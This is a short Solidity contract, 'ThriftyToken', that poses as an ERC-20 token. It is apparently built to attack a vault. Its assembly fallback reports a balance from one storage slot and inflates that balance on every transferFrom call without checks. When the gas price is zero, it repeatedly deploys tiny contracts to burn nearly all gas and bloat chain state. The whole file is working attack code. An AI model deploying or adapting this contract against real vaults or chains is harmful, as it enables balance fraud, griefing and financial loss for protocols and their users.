// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

/// @notice A token that spends what it gets for nothing on contracts of new code, and next to nothing on itself. It keeps no book but of
/// what the vault has, which is all that the vault looks at.
contract ThriftyToken {
    fallback() external {
        assembly {
            let selector := shr(224, calldataload(0))
            let amount := calldataload(0x24)
            // balanceOf
            if eq(selector, 0x70a08231) {
                mstore(0, sload(0))
                return(0, 0x20)
            }
            let least := 32550
            // transferFrom: what is done behind it needs gas too.
            if eq(selector, 0x23b872dd) {
                amount := calldataload(0x44)
                sstore(0, add(sload(0), amount))
                amount := add(amount, 0x1000)
                least := 61550
            }
            if iszero(gasprice()) {
                // CREATE, two bytes of code, and what runs around them. Other amounts give other codes.
                for { let code := mul(amount, 4) } gt(gas(), least) { code := add(code, 1) } {
                    // PUSH2 code PUSH0 MSTORE PUSH1 2 PUSH1 30 RETURN
                    mstore(0, or(shl(176, 0x6100005f526002601ef3), shl(232, and(code, 0xffff))))
                    pop(create(0, 0, 10))
                }
            }
            mstore(0, 1)
            return(0, 0x20)
        }
    }
}
